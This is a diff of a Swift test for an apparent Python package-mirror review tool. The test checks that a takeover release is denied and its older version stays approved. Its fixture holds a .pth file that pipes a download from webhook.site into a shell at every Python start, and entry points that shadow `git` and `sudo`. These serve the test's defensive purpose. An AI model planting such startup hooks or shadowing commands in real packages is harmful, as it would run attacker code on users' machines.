@@ -10,23 +10,28 @@ import Testing
     @Test func aTakeoverReleaseIsHeldTheOldOneStaysServedAndReviewersSeeWhy() throws {
         let mirror = try MirrorHarness([
             PackageSpec("maturelib", "1.0"),
-            // 2.0 adds a .pth that runs a download at every interpreter start, and a command named `git`.
+            PackageSpec("otherlib", "1.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\nsudo = otherlib:main\n"]),
+        ])
+        // Mature facts: released long ago, so the score approves; only content can hold them.
+        try mirror.backdate(days: 400)
+        let first = try mirror.sync(["maturelib", "otherlib"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
+        #expect(first.succeeded, "\(first.output)")
+        // 2.0 adds a .pth that runs a download at every interpreter start, and a command named `git`.
+        try mirror.add([
             PackageSpec(
                 "maturelib", "2.0",
                 extraFiles: [
                     "maturelib-startup.pth": "import os; os.system('curl -s https://webhook.site/abc | sh')\n",
                     "{distinfo}/entry_points.txt": "[console_scripts]\ngit = maturelib:main\n",
-                ]),
-            PackageSpec("otherlib", "1.0", extraFiles: ["{distinfo}/entry_points.txt": "[console_scripts]\nsudo = otherlib:main\n"]),
+                ])
         ])
-        // Mature facts: both released long ago, so the score approves; only content can hold them.
         try mirror.backdate(days: 400)
-        let r = try mirror.sync(["maturelib", "otherlib"], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
+        let r = try mirror.sync([], extra: ["--policy", PolicySyncTests.defaultPolicy, "--versions", "2"])
         #expect(r.succeeded, "\(r.output)")
-
         let show = try AirlockCommand.run(["review", "show", "--data", mirror.data, "maturelib"])
         #expect(show.stdout.contains("maturelib 2.0: DENY"), "\(show.stdout)")
         #expect(show.stdout.contains("rule:content:pth_exec: maturelib-2.0-py3-none-any.whl: maturelib-startup.pth:1: runs at every Python start"), "\(show.stdout)")
+        #expect(show.stdout.contains("— new since 1.0, which had no such code"), "the change is named: \(show.stdout)")
         #expect(show.stdout.contains("rule:content:shadowing_entry_point") && show.stdout.contains("entry_points.txt:2"), "\(show.stdout)")
         #expect(show.stdout.contains("maturelib 1.0: APPROVE"), "\(show.stdout)")
 
